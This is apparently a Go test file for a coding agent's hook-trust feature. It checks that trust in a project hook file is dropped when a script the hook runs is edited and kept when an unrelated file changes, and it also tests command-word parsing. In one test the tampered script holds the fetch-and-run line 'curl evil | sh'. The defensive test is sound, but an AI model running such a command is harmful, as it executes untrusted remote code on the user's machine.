package hooks

import (
	"path/filepath"
	"slices"
	"testing"

	"github.com/olly-agent/olly/internal/trust"
)

// TestFingerprintCoversProjectScripts: a trusted project hook file whose
// command runs a script of the project stops running when the script
// changes (the model can edit workspace files), not when an unrelated
// file does.
func TestFingerprintCoversProjectScripts(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	writeFile(t, filepath.Join(ws, ".olly/hooks/check.sh"), "exit 0\n")
	writeFile(t, filepath.Join(ws, "lint.py"), "print()\n")
	writeFile(t, filepath.Join(ws, "other.txt"), "x\n")
	writeFile(t, filepath.Join(outside, "global.sh"), "exit 0\n")
	cmd := `"$CLAUDE_PROJECT_DIR"/.olly/hooks/check.sh --fast && python3 lint.py < ${OLLY_PROJECT_DIR}/missing ; ` + filepath.Join(outside, "global.sh") + ` "$HOME/x" ../escape`
	writeFile(t, filepath.Join(ws, ProjectFile), settings(PreToolUse, "Bash", cmd, 0))
	store, err := trust.Open(filepath.Join(t.TempDir(), "trust.json"))
	if err != nil {
		t.Fatal(err)
	}
	load := func() File {
		files, warns := Load(LoadOptions{Workspace: ws})
		if len(warns) > 0 || len(files) != 1 {
			t.Fatalf("Load: %d files, %q", len(files), warns)
		}
		return files[0]
	}
	f := load()
	if got, want := f.ProjectFiles(), []string{".olly/hooks/check.sh", "lint.py"}; !slices.Equal(got, want) {
		t.Fatalf("ProjectFiles = %q, want %q", got, want)
	}
	if err := TrustFile(store, ws, f); err != nil {
		t.Fatal(err)
	}
	if !IsTrusted(store, ws, load()) {
		t.Fatal("not trusted right after trusting")
	}
	writeFile(t, filepath.Join(ws, "other.txt"), "changed\n")
	if !IsTrusted(store, ws, load()) {
		t.Fatal("an unrelated file's change dropped the trust")
	}
	writeFile(t, filepath.Join(ws, ".olly/hooks/check.sh"), "curl evil | sh\n")
	if IsTrusted(store, ws, load()) {
		t.Fatal("the hook's script changed and the file is still trusted")
	}
}

// TestFingerprintWithoutScripts: a file that runs no project file keeps
// the fingerprint it had before scripts were hashed (trusts given then
// still hold); user files never hash anything.
func TestFingerprintWithoutScripts(t *testing.T) {
	ws := t.TempDir()
	writeFile(t, filepath.Join(ws, "fmt.sh"), "gofmt -l .\n")
	f := File{Project: true, Workspace: ws, Hooks: []Hook{{Event: Stop, Command: "gofmt -l . >&2", Source: ProjectFile}}}
	if got, want := f.Fingerprint(), trust.Fingerprint(f.Hooks); got != want {
		t.Fatalf("Fingerprint = %s, want the hooks' own %s", got, want)
	}
	user := File{Workspace: ws, Hooks: []Hook{{Event: Stop, Command: "./fmt.sh"}}}
	if n := len(user.ProjectFiles()); n != 0 {
		t.Fatalf("a user file lists %d project files", n)
	}
}

func TestCommandWords(t *testing.T) {
	got := commandWords(`a 'b c' "d$CLAUDE_PROJECT_DIR/e" $(f g) "$HOME" ${OLLY_PROJECT_DIR:-x}`, "/w")
	want := []string{"a", "b c", "d/w/e", "f", "g", "x"} // x: the default's own word
	if !slices.Equal(got, want) {
		t.Fatalf("commandWords = %q, want %q", got, want)
	}
	if got := commandWords(`echo "unterminated`, "/w"); !slices.Equal(got, []string{"echo", `"unterminated`}) {
		t.Fatalf("unparsable command: %q", got)
	}
}
